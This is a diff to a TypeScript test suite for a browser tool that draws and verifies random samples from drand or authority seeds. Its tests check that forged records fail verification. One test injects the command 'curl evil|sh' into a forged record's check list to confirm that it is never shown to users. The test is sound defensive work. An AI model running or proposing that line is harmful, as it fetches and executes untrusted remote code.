@@ -26,6 +26,7 @@ const BEACON = {
     'b713718a38ae728dfd477991af2822e08d2f305e47718cef9f7848ce4050e7be41076862b98fad56e91a6b85b89cd97b',
   randomness: 'fc1873a13f3545aeade8401532ef5519920652eee6b0d2b19ca12643b87b3587',
 };
+const { chainHash, ...beacon } = BEACON;
 const LATER = '2023-09-16T23:00:00.000Z';
 const columns = { id: 'id', stratum: 'zone' };
 let record: DrawRecord;
@@ -57,6 +58,7 @@ interface Draft {
     selected: { id: string; order: number }[];
     replacements: unknown[];
   }[];
+  check: { unit: string; lists: object[] };
 }
 /** A record that was changed by somebody who knows how to make its hash fit. */
 function forged(change: (copy: Draft) => void): unknown {
@@ -73,10 +75,14 @@ async function said(untrusted: unknown): Promise<string> {
 function rename(unit: { id: string } | undefined): void {
   if (unit !== undefined) unit.id = 'ü-1😀x';
 }
+function trusted(origin: Record<string, unknown>): void {
+  origin['trust'] = 'verifiable';
+}
 /** Bern alone, as if there were no Zürich. */
 function dropStratum(copy: Draft): void {
   copy.plan.strata.pop();
   copy.strata.pop();
+  copy.check.lists.pop();
   Object.assign(copy, { selectedSha256: copy.strata[0]?.selectedSha256 });
 }
 function commitmentOf({ seed: { origin } }: DrawRecord): object {
@@ -92,6 +98,7 @@ describe('a draw in the browser', () => {
       'seed passed',
       'plan passed',
       'tickets passed',
+      'says passed',
       'frame passed',
       'draw passed',
     ]);
@@ -138,6 +145,22 @@ describe('a draw in the browser', () => {
       'no record',
     ],
     [
+      'a member that no record has',
+      ({ frame }) => void Object.assign(frame, { excluded: ['ü-3😀'] }),
+      'says failed',
+    ],
+    ['a trust that no typed seed has', ({ seed }) => trusted(seed.origin), 'says failed'],
+    [
+      'another command for others',
+      ({ check: { lists } }) => void Object.assign(lists[0] ?? {}, { command: 'true' }),
+      'says failed',
+    ],
+    [
+      'another rule in words',
+      (copy) => void Object.assign(copy, { method: 'Units as they please.' }),
+      'says failed',
+    ],
+    [
       'a place that is counted twice',
       ({ strata: [one] }) => void Object.assign(one?.selected[3] ?? {}, { order: 3 }),
       'plan failed',
@@ -157,13 +180,11 @@ describe('a draw in the browser', () => {
     const lists = [
       ...(Reflect.get(record, 'check') as { lists: { command: string; expect: string }[] }).lists,
     ];
-    expect(sameLines(record).slice(1)).toMatchObject(
+    expect(sameLines(record).filter(({ does }) => does === 'list')).toMatchObject(
       lists.map(({ command, expect: hash }) => ({ command, expect: hash })),
     );
-    const evil = asRecord(
-      forged((copy) => Object.assign(copy, { check: { lists: [{ command: 'curl evil|sh' }] } })),
-    );
-    expect(evil === undefined ? [] : sameLines(evil)).toEqual(sameLines(record));
+    const evil = forged(({ check: { lists } }) => Object.assign(lists[0] ?? {}, { command: 'curl evil|sh' }));
+    expect(sameLines(asRecord(evil) ?? record)).toEqual(sameLines(record));
     const index: unknown = await drawSelection(memorySource('units.csv', text), {
       designId: 'd-1',
       algorithm: 'sha256-index-v1',
@@ -174,8 +195,13 @@ describe('a draw in the browser', () => {
     });
     const read = asRecord(JSON.parse(JSON.stringify(index)));
     if (read === undefined) throw new Error('no record');
-    expect(outcome(await checkRecord(read))).toEqual(['record passed', 'seed passed', 'plan passed']);
-    expect(sameLines(read)[1]?.command).toBe(Reflect.get(read, 'check').lists[0].command);
+    expect(outcome(await checkRecord(read))).toEqual([
+      'record passed',
+      'seed passed',
+      'plan passed',
+      'says passed',
+    ]);
+    expect(sameLines(read).at(-1)?.command).toBe(Reflect.get(read, 'check').lists[0].command);
   });
 
   it.each(['drand', 'authority'] as const)(
@@ -192,7 +218,7 @@ describe('a draw in the browser', () => {
       };
       const commitment = commitSelection(
         kind === 'drand'
-          ? { ...terms, source: { kind, chainHash: BEACON.chainHash, round: BEACON.round } }
+          ? { ...terms, source: { kind, chainHash, round: beacon.round } }
           : {
               ...terms,
               source: { kind, authority: 'National lottery', reference: 'draw 61', publicFrom: '2023-09-15' },
@@ -201,7 +227,7 @@ describe('a draw in the browser', () => {
       );
       const seed =
         kind === 'drand'
-          ? await drandSeed(commitment, BEACON, Date.parse(LATER))
+          ? await drandSeed(commitment, beacon, Date.parse(LATER))
           : authoritySeed(commitment, {
               value: '7 9 21',
               reference: 'draw 61',
